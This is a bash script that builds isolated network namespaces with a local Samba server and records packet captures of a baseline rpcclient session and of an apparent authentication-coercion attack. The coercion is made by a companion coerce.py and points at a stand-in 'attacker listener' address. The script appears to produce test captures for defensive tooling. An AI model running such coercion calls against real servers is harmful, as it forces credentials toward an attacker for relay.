#!/usr/bin/env bash
# Regenerates the captures of this folder: the attacks of an adversary in the middle and the
# RPC calls that coerce a server into authenticating. Run as root on a Debian machine; CI never
# runs it.
#
# Two network namespaces joined by a veth pair; every address lives only inside them:
#   mitm-srv  10.79.0.10  Samba 4.17 smbd (standalone: spoolss, netdfs, lsarpc...)
#   mitm-cli  10.79.0.20  the clients: impacket's library (coerce.py), rpcclient
# 10.79.0.66 is the "attacker's listener" the coercion calls name; nothing answers there.
# tcpdump listens on the server end of the veth, one capture per scenario.
#
# Usage: sudo pcaps/mitm/make.sh [OUTDIR]   (default: this folder)
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=$(mkdir -p "${1:-$HERE}" && cd "${1:-$HERE}" && pwd)
NS_S=mitm-srv
NS_C=mitm-cli
SRV=10.79.0.10
CLIENT=10.79.0.20
LISTENER=10.79.0.66
USER=hwadmin
PASS='Hardw1re!'     # test password of a throw-away local account
PY=/usr/bin/python3  # the interpreter with impacket

[ "$(id -u)" = 0 ] || { echo "make.sh: run as root" >&2; exit 1; }
command -v smbd >/dev/null && command -v tcpdump >/dev/null && command -v rpcclient >/dev/null \
  || { apt-get update; DEBIAN_FRONTEND=noninteractive apt-get install -y samba smbclient tcpdump iproute2 ethtool python3-impacket; }

WORK=$(mktemp -d /tmp/mitm-pcaps.XXXXXX)
PIDS=()
cleanup() {
  set +e
  trap '' INT TERM
  for pid in "${PIDS[@]}"; do kill "$pid" 2>/dev/null; done
  sleep 1
  # samba-dcerpcd and its rpcd_* helpers outlive smbd: end what still runs in our namespace
  ip netns pids "$NS_S" 2>/dev/null | xargs -r kill 2>/dev/null
  sleep 1
  ip netns del "$NS_S" 2>/dev/null
  ip netns del "$NS_C" 2>/dev/null
  rm -rf "$WORK"
  return 0
}
trap cleanup EXIT
trap "exit 1" INT TERM
in_srv() { ip netns exec "$NS_S" "$@"; }
in_cli() { ip netns exec "$NS_C" "$@"; }

ip netns del "$NS_S" 2>/dev/null || true
ip netns del "$NS_C" 2>/dev/null || true
ip netns add "$NS_S"
ip netns add "$NS_C"
ip link add mitm-s netns "$NS_S" type veth peer name mitm-c netns "$NS_C"
for ns in "$NS_S" "$NS_C"; do
  ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
  ip netns exec "$ns" ip link set lo up
done
in_srv ip addr add "$SRV/24" dev mitm-s
in_cli ip addr add "$CLIENT/24" dev mitm-c
# no segmentation offload: frames stay within the MTU, as on a real wire
command -v ethtool >/dev/null && in_srv ethtool -K mitm-s tso off gso off gro off >/dev/null || true
command -v ethtool >/dev/null && in_cli ethtool -K mitm-c tso off gso off gro off >/dev/null || true
in_srv ip link set mitm-s up
in_cli ip link set mitm-c up

# ---- Samba, standalone, with the print spooler and DFS pipes served
id "$USER" >/dev/null 2>&1 || useradd --no-create-home --shell /usr/sbin/nologin "$USER"
dir=$WORK/samba
mkdir -p "$dir"/{lock,state,cache,private,run,ncalrpc,log,share}
cat > "$dir/smb.conf" <<CONF
[global]
  netbios name = FILESRV
  workgroup = HARDWIRE
  server role = standalone server
  interfaces = $SRV/24
  bind interfaces only = yes
  smb ports = 445
  disable netbios = yes
  server smb encrypt = off
  admin users = $USER
  lock directory = $dir/lock
  state directory = $dir/state
  cache directory = $dir/cache
  private dir = $dir/private
  pid directory = $dir/run
  ncalrpc dir = $dir/ncalrpc
  log file = $dir/log/%m.log
  passdb backend = tdbsam
  host msdfs = yes
  load printers = no
  printcap name = /dev/null
  disable spoolss = no
[share]
  path = $dir/share
  read only = no
CONF
printf '%s\n%s\n' "$PASS" "$PASS" | smbpasswd -c "$dir/smb.conf" -s -a "$USER" >/dev/null
in_srv setsid smbd --foreground --no-process-group --configfile="$dir/smb.conf" > "$dir/log/smbd.out" 2>&1 &
PIDS+=($!)

for _ in $(seq 50); do in_cli bash -c "exec 3<>/dev/tcp/$SRV/445" 2>/dev/null && break; sleep 0.2; done

capture() {  # NAME CMD...: one scenario, recorded on the server end of the veth
  local name=$1; shift
  in_srv tcpdump -i mitm-s -s 0 -U -Z root -w "$WORK/$name" 2>/dev/null &
  local dump=$!
  sleep 1
  echo "== $name: $*"
  in_cli timeout 60 "$@" || echo "   (client exited with $?)"
  sleep 1
  kill -TERM "$dump"; wait "$dump" || true
  cp "$WORK/$name" "$OUT/$name"
}

capture coerce-samba.pcap "$PY" "$HERE/coerce.py" "$SRV" "$USER" "$PASS" "$LISTENER"
capture rpcclient-baseline.pcap rpcclient -U "$USER%$PASS" -c 'srvinfo;enumprinters;netshareenum' "$SRV"
ls -l "$OUT"/*.pcap
